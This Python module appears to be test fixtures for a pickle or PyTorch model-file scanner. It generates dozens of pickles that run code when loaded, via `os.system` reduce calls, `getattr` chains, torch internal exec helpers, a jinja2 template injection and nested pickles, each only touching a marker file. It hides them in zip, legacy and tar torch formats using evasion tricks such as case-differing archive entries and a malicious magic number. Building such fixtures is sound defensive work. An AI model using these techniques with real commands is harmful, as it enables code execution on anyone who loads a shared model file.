"""Files that run code where they are loaded, each harmless: it creates one file, the marker.

Every way that a pickle has to call something, in every file that holds a pickle; and what hides it.
"""

# ruff: noqa: E501  each way to run in a line

from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
from typing import TYPE_CHECKING

import torch
from torch._C import PyTorchFileWriter

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

OS = os.system.__module__.encode()
MAGIC = 0x1950A86A20F9469CFC6C
TWO, FOUR = b"\x80\x02", b"\x80\x04"


class Evil:
    """Runs a command where it is unpickled."""

    def __init__(self, command: str = "true") -> None:
        """Take the command."""
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Name the call."""
        return os.system, (self.command,)


def text(value: str | bytes) -> bytes:
    """Push a text."""
    data = value.encode() if isinstance(value, str) else value
    return b"X" + struct.pack("<I", len(data)) + data


def ask(module: str, name: str) -> bytes:
    """Push a name, by lines."""
    return f"c{module}\n{name}\n".encode()


def ask4(module: str, name: str) -> bytes:
    """Push a name, from the stack: it may have dots."""
    return text(module) + text(name) + b"\x93"


def call(of: bytes, *args: bytes) -> bytes:
    """Call something."""
    return of + b"(" + b"".join(args) + b"tR"


def made(module: str, name: str, state: bytes = b"") -> bytes:
    """Make an instance without a call, and set its attributes."""
    return ask(module, name) + b")\x81" + (b"}(" + state + b"ub" if state else b"")


def system(marker: Path) -> bytes:
    """Call os.system."""
    return call(ask(OS.decode(), "system"), text(f"touch {marker}"))


# -- pickles ---------------------------------------------------------------------------------------


def pickles(marker: Path) -> dict[str, bytes]:
    """Return pickles that run, by the way in which they do."""
    touch, run = f"touch {marker}", system(marker)
    code = f"import os; os.system({touch!r})"
    expression = f"__import__('os').system({touch!r})"
    getattr_ = call(ask("builtins", "getattr"), ask("torch", "os"), text("system"))
    path = call(ask("pathlib", "PosixPath"), text(str(marker)))
    short = text(touch)
    popen = b"csubprocess\nPopen\n((" + text("touch") + text(str(marker)) + b"lt"
    spawned = b"(" + text("touch") + text(str(marker)) + b"l"
    inner = TWO + run + b"."
    raw = (
        b"C" + bytes([len(inner)]) + inner
        if len(inner) < 256
        else b"B" + struct.pack("<I", len(inner)) + inner
    )
    partial = call(ask("functools", "partial"), ask(OS.decode(), "system"), short)
    namespace = made("argparse", "Namespace", text("detach") + partial)
    bodies: dict[str, tuple[bytes, bytes]] = {
        "reduce, protocol 2": (TWO, run),
        "reduce, protocol 4": (FOUR, call(ask4(OS.decode(), "system"), short)),
        "reduce, protocol 0": (b"", b"c%s\nsystem\n(S'%s'\ntR" % (OS, touch.encode())),
        "reduce, protocol 1": (b"", b"c%s\nsystem\n(V%s\ntR" % (OS, touch.encode())),
        "inst": (TWO, b"(" + short + b"i%s\nsystem\n" % OS),
        "obj": (TWO, b"(c%s\nsystem\n" % OS + short + b"o"),
        "newobj of a class with a __new__": (TWO, ask("numpy", "memmap") + b"(" + text(str(marker)) + text("u1") + text("w+") + b"K\x00K\x04\x85t\x81"),
        "build on a class": (TWO, ask("argparse", "Namespace") + b"N}(" + text("__setstate__") + ask(OS.decode(), "system") + b"u\x86b0" + made("argparse", "Namespace") + short + b"b"),
        "popped": (TWO, run + b"0}"),
        "as a key": (TWO, b"}" + run + b"Ns"),
        "in a persistent id": (TWO, b"(" + text("storage") + ask("torch", "FloatStorage") + run + b"NK\x00tQ"),
        "in a mark that is dropped": (TWO, b"(" + run + b"1}"),
        "before a fault": (TWO, run + b"\xff"),
        "by a text that is bytes": (FOUR, b"U" + bytes([len(OS)]) + OS + b"U\x06system\x93(" + short + b"tR"),
        "by a computed name": (FOUR, call(ask("builtins", "str"), text(OS)) + text("system") + b"\x93(" + short + b"tR"),
        "numbers in base 16": (b"", b"I0x10\n0c%s\nsystem\n(V%s\ntR" % (OS, touch.encode())),
        "a dotted name": (FOUR, call(ask4("torch.serialization", "os.system"), short)),
        "getattr": (TWO, call(getattr_, short)),
        "attrgetter": (TWO, call(call(ask("operator", "attrgetter"), text("system")), ask("torch", "os")) + b"(" + short + b"tR"),
        "methodcaller": (TWO, call(call(ask("operator", "methodcaller"), text("system"), short), ask("torch", "os"))),
        "partial": (TWO, call(partial)),
        "partial that data call": (TWO, call(ask("torch._utils", "_rebuild_parameter"), namespace, b"\x89", b"}")),
        "rebuild from a type": (TWO, call(ask("torch._tensor", "_rebuild_from_type_v2"), ask(OS.decode(), "system"), ask("torch", "Tensor"), b"(" + short + b"t", b"}")),
        "a generator of another class": (TWO, call(ask("numpy.random._pickle", "__generator_ctor"), short, ask(OS.decode(), "system"))),
        "torch.jit exec": (FOUR, call(ask("torch.jit.unsupported_tensor_ops", "execWrapper"), text(code), b"}", b"}")),
        "torch.fx exec": (FOUR, call(ask("torch.fx.graph_module", "_exec_with_source"), text(code), b"}")),
        "inductor": (FOUR, call(ask4("torch._inductor.codecache", "PyCodeCache.load"), text(code))),
        "pydoc": (FOUR, call(ask("pydoc", "pipepager"), text("x"), short)),
        "pydoc temporary": (FOUR, call(ask("pydoc", "tempfilepager"), text("x"), text(f"{touch};:"))),
        "uuid": (FOUR, call(ask("uuid", "_get_command_stdout"), text("touch"), text(str(marker)))),
        "FileHandler": (FOUR, call(ask("logging", "FileHandler"), text(str(marker)))),
        "logging.config": (FOUR, call(call(ask("logging.config", "_resolve"), text("os.system")), short)),
        "sympify": (FOUR, call(ask("sympy.core.sympify", "sympify"), text(expression))),
        "distutils": (FOUR, call(ask("distutils.spawn", "spawn"), spawned)),
        "dataclasses": (FOUR, call(ask("dataclasses", "_create_fn"), text("f"), b"(" + text(f"a={expression}") + b"l", b"(" + text("return 1") + b"l")),
        "numpy runstring": (FOUR, call(ask("numpy.testing._private.utils", "runstring"), text(code), b"}")),
        "jinja2": (FOUR, call(ask("jinja2.environment", "Template"), text("{{ cycler.__init__.__globals__.os.system('" + touch + "') }}")) + b"q\x000" + call(ask("operator", "methodcaller"), text("render")) + b"(h\x00tR"),
        "Path.touch": (FOUR, call(ask4("pathlib", "PosixPath.touch"), path)),
        "savetxt": (FOUR, call(ask("numpy", "savetxt"), text(str(marker)), b"(K\x01l")),
        "from_file": (FOUR, call(ask4("torch", "UntypedStorage.from_file"), text(str(marker)), b"\x88", b"K\x04")),
        "pickle in a pickle": (FOUR, call(ask("_pickle", "loads"), raw)),
        "_load_from_bytes": (FOUR, call(ask("pickle", "loads"), raw)),
    }  # fmt: skip
    found = {way: head + body + b"." for way, (head, body) in bodies.items()}
    found["newobj"] = TWO + popen + b"\x81."  # the object's __init__ does not run: nothing does
    found["newobj_ex"] = FOUR + popen + b"}\x92."
    return found


# -- files -----------------------------------------------------------------------------------------


def zipped(path: Path, pickled: bytes, **others: bytes) -> None:
    """Write an archive of torch."""
    writer = PyTorchFileWriter(str(path))
    for name, data in {"data.pkl": pickled, "byteorder": b"little", **others}.items():
        writer.write_record(name, data, len(data))
    writer.write_end_of_file()


def legacy(path: Path, pickled: bytes, protocol: int = 2, magic: bytes = b"") -> None:
    """Write a file of torch before 1.6."""
    info = {"little_endian": True, "protocol_version": 1001, "type_sizes": {}}
    head = (magic or pickle.dumps(MAGIC, protocol)) + pickle.dumps(1001, 2) + pickle.dumps(info, 2)
    path.write_bytes(head + pickled + pickle.dumps([], 2))


def plain(path: Path, pickled: bytes) -> None:
    """Write a pickle, and nothing else."""
    path.write_bytes(pickled)


def tarred(path: Path, pickled: bytes) -> None:
    """Write a tar archive as torch had them in the beginning."""
    with tarfile.open(path, "w") as archive:
        members = {
            "sys_info": pickle.dumps({}),
            "pickle": pickled,
            "tensors": b"",
            "storages": pickled,
        }
        for name, data in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))


def other_case(path: Path, pickled: bytes, name: str = "DATA.PKL") -> None:
    """Write an archive with a good structure, and an evil one whose name differs in case."""
    zipped(path, pickle.dumps({"a": 1}, 2), **{name: pickled})


def computed_magic(path: Path, pickled: bytes) -> None:
    """Write a legacy file whose magic number is what a call returns."""
    magic = TWO + call(ask("builtins", "int"), text(str(MAGIC))) + b"."
    legacy(path, pickled, magic=magic)


FILES: dict[str, Callable[[Path, bytes], None]] = {
    "zip": zipped,
    "plain": plain,
    "legacy": legacy,
    "legacy, magic in protocol 4": lambda path, pickled: legacy(path, pickled, 4),
    "legacy, magic in protocol 0": lambda path, pickled: legacy(path, pickled, 0),
    "legacy, magic computed": computed_magic,
    "legacy, evil magic": lambda path, pickled: legacy(path, TWO + b"}.", magic=pickled),
    "zip, other case": other_case,
    "tar": tarred,
}


def benign(path: Path) -> None:
    """Write what torch.save writes."""
    torch.save({"w": torch.arange(4.0), "step": 3}, path)
